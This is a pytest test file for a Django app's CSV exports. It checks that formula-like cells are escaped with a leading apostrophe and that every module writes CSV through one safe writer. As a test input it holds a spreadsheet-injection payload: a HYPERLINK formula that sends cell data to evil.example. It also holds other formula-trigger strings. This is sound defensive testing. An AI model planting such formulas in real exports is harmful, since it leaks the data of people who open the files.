"""Every CSV the app writes keeps spreadsheet formulas inert: one writer, used by every export."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from reviews import services
from reviews.csv_export import safe_cell
from reviews.models import Role

from .factories import MembershipFactory, ReviewFactory, UserFactory, category

ROOT = Path(__file__).resolve().parent.parent
PLANTED = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", " \t@x", "\uff1dHYPERLINK()", PLANTED],
)
def test_formula_like_cells_get_a_leading_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ledger", "a=b", "", "2026-12-03", '{"name": "=x"}', 3, None])
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) == value


def test_no_module_writes_csv_but_the_safe_writer():
    offenders = []
    for path in ROOT.glob("**/*.py"):
        rel = path.relative_to(ROOT)
        if rel.parts[0] in {"tests", ".venv", "var", "node_modules"} or rel == Path("reviews/csv_export.py"):
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\b", path.read_text(encoding="utf-8")):
            offenders.append(str(rel))
    assert offenders == []


def _table(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def _no_live_formula(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell


@pytest.fixture
def planted(team, architect):
    team.name = " @Payments"
    team.save()
    system = services.create_system(team=team, name=PLANTED, actor=architect)
    return ReviewFactory(system=system, created_by=architect, chair=architect, release_scope="-1+2")


@pytest.mark.django_db
def test_the_portfolio_csv_keeps_a_planted_formula_as_text(client, architect, planted):
    client.force_login(architect)
    table = _table(client.get(reverse("portfolio"), {"format": "csv"}))
    row = next(r for r in table[1:] if PLANTED in r[1])
    assert row[0] == "' @Payments" and row[1] == "'" + PLANTED
    _no_live_formula(table)


@pytest.mark.django_db
def test_the_audit_trail_csv_keeps_a_planted_formula_as_text(client, auditor, planted):
    client.force_login(auditor)
    table = _table(client.get(reverse("audit_trail_csv")))
    assert ["'" + PLANTED] in [[r[5]] for r in table[1:]]
    _no_live_formula(table)


@pytest.mark.django_db
def test_the_review_audit_csv_keeps_a_planted_formula_as_text(client, auditor, team, planted):
    mallory = UserFactory(username="@mallory")
    MembershipFactory(user=mallory, team=team, role=Role.MEMBER)
    services.add_finding(
        review=planted, category=category(planted, "security"), title="t", level="P3", actor=mallory
    )
    client.force_login(auditor)
    table = _table(client.get(reverse("review_audit_csv", args=[planted.pk])))
    assert ["'@mallory", "finding.add"] in [r[1:3] for r in table[1:]]
    _no_live_formula(table)
